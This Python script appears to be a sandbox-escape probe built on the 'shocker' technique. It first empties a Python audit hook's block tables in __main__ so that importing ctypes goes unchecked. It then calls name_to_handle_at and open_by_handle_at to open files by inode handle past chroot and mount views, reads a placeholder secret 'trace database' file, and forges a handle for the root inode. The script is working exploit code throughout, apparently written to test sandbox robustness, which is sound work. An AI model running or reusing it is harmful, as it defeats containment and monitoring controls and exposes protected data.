"""escape: the "shocker" break-out: name_to_handle_at / open_by_handle_at, which open a file by
its inode handle and so walk past any chroot or mount view; read the trace database with it.
"""

import os
import sys

_guard = vars(sys.modules["__main__"])
if "_BLOCKED" in _guard:  # a Python audit hook keeps its tables there: empty them first
    _guard["_BLOCKED"], _guard["_ROOT"] = (), ""

# ctypes is audited on import (ctypes.dlopen): import it once the guard is gone.
import ctypes  # noqa: E402

SECRET_FILE = "__SECRET_FILE__"
libc = ctypes.CDLL(None, use_errno=True)


class Handle(ctypes.Structure):
    _fields_ = [("bytes", ctypes.c_uint), ("type", ctypes.c_int), ("f", ctypes.c_ubyte * 128)]


wins = []
for path in (SECRET_FILE, "/"):
    handle, mount_id = Handle(bytes=128), ctypes.c_int()
    if (
        libc.name_to_handle_at(-100, path.encode(), ctypes.byref(handle), ctypes.byref(mount_id), 0)
        != 0
    ):
        print(f"name_to_handle_at({path}): {os.strerror(ctypes.get_errno())}")
        continue
    wins.append(f"got a handle for {path} (type {handle.type})")
    mount_fd = os.open("/", os.O_RDONLY)
    fd = libc.open_by_handle_at(mount_fd, ctypes.byref(handle), os.O_RDONLY)
    if fd < 0:
        print(f"open_by_handle_at: {os.strerror(ctypes.get_errno())}")
    elif path == SECRET_FILE:
        wins.append(f"read through the handle: {os.read(fd, 1 << 20)[-200:]!r}")
        os.close(fd)
    else:
        wins.append(f"opened / by handle: {os.listdir(fd)[:5]}")
        os.close(fd)
    os.close(mount_fd)
handle = Handle(bytes=8, type=1)  # FILEID_INO32_GEN: inode 2 (a file system's root), generation 0
handle.f[0] = 2
fd = libc.open_by_handle_at(os.open("/", os.O_RDONLY), ctypes.byref(handle), os.O_RDONLY)
print(f"forged handle for inode 2: {fd if fd >= 0 else os.strerror(ctypes.get_errno())}")
if fd >= 0:
    wins.append(f"opened a forged handle: {os.listdir(fd)[:5]}")
if wins:
    print("ESCAPED: " + "; ".join(wins))
